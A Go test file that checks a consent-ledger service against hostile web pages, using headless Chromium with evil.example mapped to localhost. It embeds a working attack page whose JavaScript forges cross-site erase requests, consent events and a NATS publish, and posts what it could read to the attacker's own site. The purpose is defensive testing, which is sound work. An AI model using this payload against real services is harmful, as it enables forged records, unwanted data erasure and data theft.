package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"consentledger/api/edge"
)

// chromium returns the path of a real browser; the first use installs it.
func chromium(t *testing.T) string {
	t.Helper()
	var log bytes.Buffer
	c := exec.Command("go", "run", "consentledger/cmd/internal/chromium")
	c.Stderr = &log
	path, err := c.Output()
	if err != nil {
		t.Fatalf("%v: %s", err, &log)
	}
	return strings.TrimSpace(string(path))
}

// browser returns a browser that opens a page. The name evil.example leads to
// this machine, as whoever owns a name can have it.
func browser(ctx context.Context, t *testing.T, more ...string) *exec.Cmd {
	t.Helper()
	c := exec.CommandContext(ctx, chromium(t), append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--host-resolver-rules=MAP evil.example 127.0.0.1", "--user-data-dir=" + t.TempDir()}, more...)...)
	c.Cancel = func() error { return c.Process.Signal(syscall.SIGTERM) } // it ends its own processes
	c.WaitDelay = 20 * time.Second
	return c
}

// browse opens a page and returns it as the browser has it.
func browse(t *testing.T, page string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	var log bytes.Buffer
	c := browser(ctx, t, "--dump-dom", page)
	c.Stderr = &log
	text, err := c.Output()
	if err != nil {
		t.Fatalf("%s: %v: %s", page, err, &log)
	}
	return string(text)
}

// attack is a page that tries what a page can: LEDGER is whom it attacks. When all
// of it was tried it tells its own site what the browser let it see.
const attack = `<!doctype html><title>begun</title><body><script>
const ledger = "LEDGER", nats = "NATS", seen = [];
const erase = '{"subject":"ada","reason":"x","by":["a","b"]}';
const event = '{"specversion":"1.0","id":"evil","source":"/evil","type":"consent.given","subject":"ada","data":{"act":"agree-popup"}}';
const send = async (path, options) => {
	try {
		const r = await fetch(ledger + path, {credentials: "include", ...options});
		if (r.type !== "opaque") seen.push(path + " " + (await r.text()));
	} catch (e) {}
};
const load = (kind, path) => new Promise(done => {
	const e = document.createElement(kind);
	e.onload = e.onerror = done;
	e.src = ledger + path;
	document.body.append(e);
});
const submit = (path, type, body) => new Promise(done => {
	const frame = document.createElement("iframe"), form = document.createElement("form"), field = document.createElement("input");
	frame.name = "f" + Math.random();
	const at = body.indexOf(":") + 1;
	field.name = body.slice(0, at); field.value = body.slice(at);
	form.action = ledger + path; form.method = "post"; form.enctype = type; form.target = frame.name;
	form.append(field); document.body.append(frame, form);
	form.submit();
	frame.onload = done;
});
(async () => {
	const app = "/v1/apps/smartkey";
	for (const type of ["text/plain", "application/x-www-form-urlencoded", ""]) {
		const body = b => new Blob([b], {type});
		await send(app + "/subjects/erase", {method: "POST", mode: "no-cors", body: body(erase)});
		await send(app + "/events", {method: "POST", mode: "no-cors", body: body(event)});
	}
	await send(app + "/subjects/erase", {method: "POST", body: erase, headers: {"Content-Type": "application/json"}});
	await send(app, {method: "PUT", body: "{}", headers: {"Content-Type": "application/json"}});
	await send("/v1/rejected/1/retry", {method: "POST", mode: "no-cors"});
	await send("/v1/replay/check", {method: "POST", mode: "no-cors"});
	navigator.sendBeacon(ledger + app + "/subjects/erase", erase);
	await submit(app + "/subjects/erase", "text/plain", erase);
	await submit(app + "/events", "text/plain", event);
	await send("/v1/replay", {});
	await send("/v1/replay", {mode: "no-cors"});
	await send("/v1/replay", {mode: "no-cors", referrerPolicy: "no-referrer"});
	await load("img", "/v1/replay");
	await load("script", "/v1/replay");
	await load("iframe", "/v1/replay");
	try { await fetch(nats, {method: "POST", mode: "no-cors", body: "PUB consent.v1.smartkey.in.consent.withdrawn 2\r\n{}\r\n"}); } catch (e) {}
	await fetch("/tried", {method: "POST", body: JSON.stringify(seen)});
	document.title = "tried";
})();
</script>`

// A site is a page of somebody else.
type site struct {
	*httptest.Server
	tried chan string // what it saw
}

func newSite(t *testing.T, ledger, nats string) *site {
	s := &site{tried: make(chan string, 1)}
	page := strings.NewReplacer("LEDGER", ledger, "NATS", nats).Replace(attack)
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/tried" {
			b, _ := io.ReadAll(r.Body)
			s.tried <- string(b)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	t.Cleanup(s.Close)
	return s
}

// visit opens the page under a name, and returns what it could read.
func (s *site) visit(t *testing.T, name string) string {
	t.Helper()
	_, port, err := net.SplitHostPort(s.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	defer cancel()
	c := browser(ctx, t, "http://"+name+":"+port+"/")
	var log bytes.Buffer
	c.Stderr = &log
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		_ = c.Wait() // it was told to end
	}()
	select {
	case seen := <-s.tried:
		return seen
	case <-ctx.Done():
		t.Fatalf("the page on %s did not try everything: %s", name, &log)
		return ""
	}
}

func TestAPageInABrowserIsNotItsVisitor(t *testing.T) {
	t.Parallel()
	r := start(t, t.TempDir(), false)
	for _, args := range [][]string{
		{"app", "add", "smartkey", "--handler", "Demo Ltd"},
		{"policy", "publish", "--app", "smartkey", "smartkey/policy.yaml"},
		{"record", "--app", "smartkey", "--type", "consent.refused", "--subject", "ada", "--data", `{"all":true}`},
	} {
		if out, err := cli(t, r, args...); err != nil {
			t.Fatalf("%v: %s %v", args, out, err)
		}
	}
	head := func() string {
		_, status := get(t, r.http+"/v1/status")
		return fmt.Sprint(status["head"])
	}
	for _, follows := range []string{"policy.effective", "obligation.opened"} { // else they could be taken for the page's doing
		eventually(t, follows, func() string {
			out, err := cli(t, r, "replay", "--app", "smartkey", "-o", "jsonl")
			if err != nil || !strings.Contains(out, `"`+follows+`"`) {
				return fmt.Sprint(out, err)
			}
			return follows
		})
	}
	begun := head()

	nats := strings.Replace(r.nats, "nats://", "http://", 1)
	for _, name := range []string{"evil.example", "localhost", "127.0.0.1"} { // another site, another name of this machine, another port
		if seen := newSite(t, r.http, nats).visit(t, name); seen != "[]" {
			t.Errorf("a page on %s read %s", name, seen)
		}
		if now := head(); now != begun {
			t.Errorf("a page on %s recorded something: %s, then %s", name, begun, now)
		}
	}

	// Under a name that leads here the browser takes the ledger for a part of the page.
	if text := browse(t, strings.Replace(r.http, "127.0.0.1", "evil.example", 1)+"/v1/replay"); !strings.Contains(text, "misdirected-request") {
		t.Errorf("under another name it shows %s", text)
	}
	if now := head(); now != begun {
		t.Errorf("under another name something was recorded: %s, then %s", begun, now)
	}

	// The visitor is answered.
	if text := browse(t, r.http+"/"); !strings.Contains(text, "/readyz?verbose") {
		t.Errorf("the ledger's own page: %s", text)
	}
	if text := browse(t, r.http+"/v1/apps/smartkey/subjects/ada/consents"); !strings.Contains(text, `"refused"`) {
		t.Errorf("what the visitor asks for: %s", text)
	}
}

// The same page, and a handler that looks at nothing: else the test above would
// also be content with a browser that sends nothing.
func TestThePageReachesWhoLooksAtNothing(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	got := map[string]int{}
	victim := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		kind := r.Method + " " + r.URL.Path
		guarded := edge.Guard(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { kind += ", let through" }), edge.Hosts{})
		guarded.ServeHTTP(httptest.NewRecorder(), r)
		mu.Lock()
		defer mu.Unlock()
		got[kind]++
	}))
	defer victim.Close()
	newSite(t, victim.URL, victim.URL).visit(t, "evil.example")
	victim.Close() // and nobody counts any more
	for want, least := range map[string]int{
		"POST /v1/apps/smartkey/subjects/erase": 5, "POST /v1/apps/smartkey/events": 4, "POST /v1/rejected/1/retry": 1, "GET /v1/replay": 5,
		"OPTIONS /v1/apps/smartkey/subjects/erase": 1,
	} {
		if got[want] < least {
			t.Errorf("%s came %d times, want %d at least: %v", want, got[want], least, got)
		}
	}
	for kind := range got {
		if strings.HasSuffix(kind, "let through") {
			t.Errorf("%s", kind)
		}
	}
}
